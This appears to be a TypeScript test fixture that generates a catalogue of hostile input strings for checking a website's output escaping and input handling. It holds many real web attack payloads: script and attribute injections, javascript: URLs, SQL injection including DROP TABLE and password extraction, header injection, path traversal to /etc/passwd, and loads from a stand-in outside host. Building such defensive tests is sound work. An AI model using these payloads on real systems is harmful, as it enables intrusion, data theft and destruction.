/** What a string tries to be where it is shown, stored or looked for. */
export type Hostile = { kind: string; text: string };

/** Where nothing of the site may ever lead. */
export const OUTSIDE = 'outside.example';
/** What a script that ran would call, with the number of its string. */
export const PLANTED = 'planted';

/** `N` stands for the number of the string, `OUT` for the site outside. */
const TEMPLATES: Record<string, readonly string[]> = {
  script: [
    '<script>planted(N)</script>',
    '"><script>planted(N)</script>',
    '</script><script>planted(N)</script>',
    '</textarea><script>planted(N)</script>',
    '</title><script>planted(N)</script>',
    '</style><script>planted(N)</script>',
    '--><script>planted(N)</script><!--',
    ']]><script>planted(N)</script><![CDATA[',
    '<scr<script>ipt>planted(N)</scr</script>ipt>',
    '<svg><script>planted(N)</script></svg>',
    '<noscript><p title="</noscript><img src=x onerror=planted(N)>">',
    '<template><script>planted(N)</script></template>',
    '<SCRIPT SRC=//OUT/N.js></SCRIPT>',
    "<script type=module>import('//OUT/N.js')</script>",
    '\\u003cscript\\u003eplanted(N)\\u003c/script\\u003e',
    '&lt;script&gt;planted(N)&lt;/script&gt;',
    '%3Cscript%3Eplanted(N)%3C/script%3E',
    "'-planted(N)-'",
    '"-planted(N)-"',
    '`-planted(N)-`',
    "\\'-planted(N)//",
    '\u2028planted(N)//',
    'alert(N)</script><script>alert(N)</script>',
  ],
  attribute: [
    '" onmouseover="planted(N)" x="',
    "' autofocus onfocus='planted(N)",
    '"><img src=x onerror=planted(N)>',
    '" style="animation:x" onanimationstart="planted(N)',
    ' onfocus=planted(N) autofocus tabindex=1 ',
    '<details open ontoggle=planted(N)>',
    '<video><source onerror=planted(N)></video>',
    '<body onload=planted(N)>',
    '<input autofocus onfocus=planted(N)>',
    '<iframe srcdoc="<script>parent.planted(N)</script>"></iframe>',
    '<object data="javascript:planted(N)"></object>',
    '<svg/onload=planted(N)>',
    '<img srcset="//OUT/N.png 1x">',
    '<meta http-equiv=refresh content="0;url=//OUT/N">',
    '<base href=//OUT/>',
    '<link rel=stylesheet href=//OUT/N.css>',
    '<form action=//OUT/><button>N</button></form>',
    '<math href="javascript:planted(N)">N</math>',
  ],
  address: [
    'javascript:planted(N)',
    'JaVaScRiPt:planted(N)//',
    'java\tscript:planted(N)',
    '\u0001javascript:planted(N)',
    'data:text/html,<script>parent.planted(N)</script>',
    'vbscript:planted(N)',
    '//OUT/N',
    '/\\OUT/N',
    '\\\\OUT\\N',
    'https:OUT/N',
    'https://OUT/N',
    'https://localhost@OUT/N',
  ],
  style: [
    'red;background:url(//OUT/N)',
    '}*{background:url(//OUT/N)}',
    "@import '//OUT/N.css';",
    '<style>@import url(//OUT/N.css)</style>',
    'expression(planted(N))',
    '\\3c script\\3e planted(N)',
  ],
  template: [
    "{{constructor.constructor('planted(N)')()}}",
    `\${planted(N)}`,
    '<%= planted(N) %>',
    '#{planted(N)}',
    '{{name}} {{count}} $t(interface.name)',
    '__proto__',
    'constructor',
    '{"__proto__":{"planted":N}}',
    "$& $` $' $1",
    '%s %n %d %x',
  ],
  sql: [
    "' OR '1'='1",
    "'; DROP TABLE letters; --",
    '1) UNION SELECT email FROM staff --',
    "'||(SELECT password FROM staff_accounts)||'",
    '"; DELETE FROM responses; --',
    '1; SELECT pg_sleep(9) --',
    "\\'; --",
    "%' ESCAPE '_",
    '_%_%[a-z]',
    '"unclosed NEAR(',
    '* AND OR NOT (',
    'a:* & !b | (<-> ',
    '$1 ? :name @p',
    'text MATCH "a" ^2 -col : {x y}',
  ],
  control: [
    'a\u0000b N',
    '\u0000',
    '\u0001\u0002\u0008\u000b\u000c\u001b[31m N',
    '\u007f\u0080\u009f N',
    '\ufffe\uffff N',
    'N\u0000<script>planted(N)</script>',
  ],
  bidi: [
    '\u202egnp.N',
    '\u2066\u2067\u2068N\u2069',
    '\u202a\u202b\u202d\u202e N',
    '\u200f\u061c\u200e N',
    '<\u202escript>planted(N)</script>',
  ],
  long: ['LONG:a', 'LONG:word ', 'LONG:\u0301', 'LONG:(', 'LONG:<b>', 'LONG:\u{1f30a}', 'LONG:\n'],
  surrogate: [
    '\ud800 N',
    'N \udfff',
    'a\ud83d',
    '\udc00\ud800 N',
    '\ud800<script>planted(N)</script>',
  ],
  header: [
    'N\r\nSet-Cookie: planted=N',
    'N\r\n\r\n<script>planted(N)</script>',
    'N\nBcc: planted@OUT',
    '%0d%0aSet-Cookie:planted=N',
    '\u560d\u560aSet-Cookie:planted=N',
    'N\rLocation: //OUT/N',
  ],
  path: [
    '../../../../../etc/passwd',
    '..%2f..%2f..%2f..%2fetc%2fpasswd',
    '..\\..\\..\\windows\\win.ini',
    '/etc/passwd\u0000.png',
    'file:///etc/passwd',
    '....//....//....//etc/passwd',
    '%00',
    '%',
    '%zz',
    '/proc/self/environ',
  ],
  unicode: [
    '\ufb01 \u0130 \u0131 \u00df \u212a N',
    '\u{1d54a}\u{1d554}\u{1d563} N',
    '\u{1f468}\u200d\u{1f469}\u200d\u{1f467} \u200b\u2060\ufeff N',
    '\ufdfd\ufdfd\ufdfd N',
    '\uff1cscript\uff1eplanted(N)\uff1c/script\uff1e',
    '\u02bcOR\u02bc1\u02bc=\u02bc1',
    'e\u0301 \u00e9 N',
    '\u0dc6\u0dca\u200d\u0dbb N',
    '\u{e0041}\u{e0042} N',
  ],
};

const LONG = 5_900;

export const HOSTILE: readonly Hostile[] = Object.entries(TEMPLATES)
  .flatMap(([kind, templates]) => templates.map((template) => ({ kind, template })))
  .map(({ kind, template }, n) => ({ kind, text: written(template, n) }));

export const KINDS = Object.keys(TEMPLATES);

/** The same for many rounds: of each kind one, the next kind's next. */
export function oneOfEach(round: number): Hostile[] {
  return KINDS.flatMap((kind) => {
    const all = HOSTILE.filter((each) => each.kind === kind);
    return all.slice(round % all.length, (round % all.length) + 1);
  });
}

function written(template: string, n: number): string {
  if (template.startsWith('LONG:')) {
    const part = template.slice(5);
    return `${part.repeat(Math.ceil(LONG / part.length)).slice(0, LONG)}${n}`;
  }
  return template.replaceAll('OUT', OUTSIDE).replace(/\bN\b/g, String(n));
}
